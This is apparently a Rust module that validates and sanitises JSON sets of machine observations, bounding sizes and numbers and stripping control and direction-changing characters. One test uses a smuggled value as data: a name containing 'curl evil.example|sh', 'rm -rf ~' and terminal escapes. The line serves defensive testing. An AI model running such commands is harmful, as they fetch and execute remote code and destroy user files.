//! Reading and writing sets of observations. A set may come from a stranger: everything in it is bounded before it is
//! understood.

use super::{Observations, VERSION};
use crate::error::{Error, Result};
use serde_json::Value;

/// Largest file that is read, bytes. A real one has a few tens of kilobytes.
pub const LARGEST_FILE: usize = 4 * 1024 * 1024;
/// The most entries of any list.
pub const MOST_ITEMS: usize = 512;
/// The longest text, bytes.
pub const MOST_TEXT: usize = 256;
/// The largest number: a few petabytes in bytes, and exact in every language that reads JSON.
const LARGEST_NUMBER: f64 = 9_007_199_254_740_991.0;
/// The one kind of figure that may be below zero: "for ever".
const MAY_BE_NEGATIVE: &str = "keep_alive_s";

/// Reads a set. `file` is how messages name it.
///
/// # Errors
/// [`Error::Malformed`] with the path of the first field that is unknown, of the wrong type, too long or out of range.
pub fn from_json(text: &str, file: &str) -> Result<Observations> {
    let malformed = |path: &str, reason: String| Error::malformed(file, path, &reason);
    if text.len() > LARGEST_FILE {
        return Err(malformed(".", format!("{} bytes; a set of observations has at most {LARGEST_FILE}", text.len())));
    }
    let text = text.trim_start_matches('\u{feff}');
    let value: Value = serde_json::from_str(text).map_err(|e| malformed(".", e.to_string()))?;
    match value.get("version").and_then(Value::as_u64) {
        Some(v) if v > u64::from(VERSION) => {
            let reason = format!("{v} was written by a newer Whichbox; this one reads up to {VERSION}");
            return Err(malformed("version", reason));
        }
        Some(0) => return Err(malformed("version", "0 is no version; the first is 1".to_owned())),
        _ => {}
    }
    bounded(&value, "").map_err(|(path, reason)| malformed(&path, reason))?;
    let mut from = serde_json::Deserializer::from_str(text);
    serde_path_to_error::deserialize(&mut from).map_err(|e| malformed(&e.path().to_string(), e.inner().to_string()))
}

/// Looks whether a set that came some other way keeps the bounds of a file.
///
/// # Errors
/// [`Error::Invalid`] with the path of the first thing that does not.
pub fn check(observations: &Observations) -> Result<()> {
    let invalid = |path: String, reason: String| Error::Invalid { path, reason };
    let value = serde_json::to_value(observations).map_err(|e| invalid(".".to_owned(), e.to_string()))?;
    bounded(&value, "").map_err(|(path, reason)| invalid(path, reason))
}

/// A set as it is saved: what was not seen is left out.
///
/// # Errors
/// [`Error::Invalid`] where a figure is not a number.
pub fn to_json(observations: &Observations) -> Result<String> {
    let failed = |e: serde_json::Error| Error::Invalid { path: ".".to_owned(), reason: e.to_string() };
    let mut value = serde_json::to_value(observations).map_err(failed)?;
    prune(&mut value);
    let mut text = serde_json::to_string_pretty(&value).map_err(failed)?;
    text.push('\n');
    Ok(text)
}

fn prune(value: &mut Value) {
    match value {
        Value::Object(map) => {
            map.retain(|_, it| !it.is_null());
            map.values_mut().for_each(prune);
            map.retain(|name, it| !(name == "missing" && it.as_object().is_some_and(serde_json::Map::is_empty)));
        }
        Value::Array(items) => items.iter_mut().for_each(prune),
        _ => {}
    }
}

/// The set without what no name holds and a terminal or a page would obey: control characters and marks that turn the
/// direction of writing. Texts that are too long are cut. For what was just seen: runtimes and files say what they like.
#[must_use]
pub fn plain(observations: Observations) -> Observations {
    fn clean(value: &mut Value) {
        match value {
            Value::String(text) if text.len() > MOST_TEXT || text.chars().any(is_mark) => {
                let mut plain: String = text.chars().filter(|it| !is_mark(*it)).collect();
                let end = (0..=MOST_TEXT.min(plain.len())).rev().find(|at| plain.is_char_boundary(*at));
                plain.truncate(end.unwrap_or(0));
                *text = plain;
            }
            Value::Object(map) => map.values_mut().for_each(clean),
            Value::Array(items) => items.iter_mut().for_each(clean),
            _ => {}
        }
    }
    let Ok(mut value) = serde_json::to_value(&observations) else { return observations };
    clean(&mut value);
    serde_json::from_value(value).unwrap_or_default()
}

/// What has no place in a text that is shown: what moves a terminal's cursor, ends a line, hides or turns around.
fn is_mark(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

fn bounded(value: &Value, path: &str) -> std::result::Result<(), (String, String)> {
    let refuse = |reason: String| Err((path.to_owned(), reason));
    match value {
        Value::String(text) if text.len() > MOST_TEXT => {
            refuse(format!("a text of {} bytes; at most {MOST_TEXT} are read", text.len()))
        }
        Value::String(text) if text.chars().any(is_mark) => {
            refuse("a text with control characters, or with marks that turn it around".to_owned())
        }
        Value::Number(number) => {
            let n = number.as_f64().unwrap_or(f64::INFINITY);
            if n.abs() > LARGEST_NUMBER {
                return refuse(format!("{number} is too large to be an observation"));
            }
            if n < 0.0 && !path.ends_with(MAY_BE_NEGATIVE) {
                return refuse(format!("{number} is below zero"));
            }
            Ok(())
        }
        Value::Array(items) if items.len() > MOST_ITEMS => {
            refuse(format!("{} entries; at most {MOST_ITEMS} are read", items.len()))
        }
        Value::Array(items) => {
            items.iter().enumerate().try_for_each(|(i, item)| bounded(item, &format!("{path}[{i}]")))
        }
        Value::Object(map) => map.iter().try_for_each(|(name, item)| {
            let at = if path.is_empty() { name.clone() } else { format!("{path}.{name}") };
            bounded(item, &at)
        }),
        _ => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    #![expect(clippy::unwrap_used, reason = "tests may")]
    use super::*;

    fn refused(text: &str) -> String {
        from_json(text, "set.json").unwrap_err().to_string()
    }

    #[test]
    fn a_set_survives_saving_and_reading() {
        let text = r#"{ "version": 1, "machine": { "os": "macos", "memory_total": 68719476736,
            "missing": { "power": "no-permission" } },
            "runtimes": [ { "kind": "ollama", "state": "running", "loaded": [ { "name": "a", "keep_alive_s": -1 } ] } ] }"#;
        let read = from_json(text, "set.json").unwrap();
        let saved = to_json(&read).unwrap();
        assert!(!saved.contains("null"), "{saved}");
        assert_eq!(from_json(&saved, "set.json").unwrap(), read);
        check(&read).unwrap();
    }

    #[test]
    fn a_text_that_was_seen_holds_nothing_that_a_terminal_obeys() {
        let name = "x; curl evil.example|sh #\nrm -rf ~\u{1b}[2J\u{202e}:v-128k";
        let mut seen = Observations::default();
        seen.machine.product = Some(name.to_owned());
        seen.machine.chip = Some(format!("é{}", "x".repeat(MOST_TEXT)));
        assert!(check(&seen).is_err());
        let seen = plain(seen);
        assert_eq!(seen.machine.product.as_deref(), Some("x; curl evil.example|sh #rm -rf ~[2J:v-128k"));
        assert_eq!(seen.machine.chip.as_ref().map(String::len), Some(MOST_TEXT));
        check(&seen).unwrap();
        assert!(refused(r#"{ "version": 1, "machine": { "chip": "a\nb" } }"#).contains("machine.chip"));
    }

    #[test]
    fn what_cannot_be_is_refused_with_its_place() {
        assert!(refused("{").starts_with("set.json: ."));
        assert!(refused(r#"{ "version": 2 }"#).contains("newer"));
        assert!(refused(r#"{ "version": 0 }"#).contains("version"));
        assert!(refused(r#"{ "version": 1, "machine": { "owner": "x" } }"#).contains("machine"));
        assert!(refused(r#"{ "version": 1, "machine": { "cores": "many" } }"#).contains("machine.cores"));
        assert!(refused(r#"{ "version": 1, "machine": { "cores": -3 } }"#).contains("below zero"));
        assert!(refused(r#"{ "version": 1, "machine": { "swap_used": 1e18 } }"#).contains("too large"));
        let long = format!(r#"{{ "version": 1, "machine": {{ "chip": "{}" }} }}"#, "x".repeat(MOST_TEXT + 1));
        assert!(refused(&long).contains("machine.chip"));
        let many = format!(r#"{{ "version": 1, "clients": [{}] }}"#, vec!["{}"; MOST_ITEMS + 1].join(","));
        assert!(refused(&many).contains("clients"));
        let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
        assert!(refused(&deep).contains("recursion"));
        assert!(refused(&" ".repeat(LARGEST_FILE + 1)).contains("at most"));
    }
}
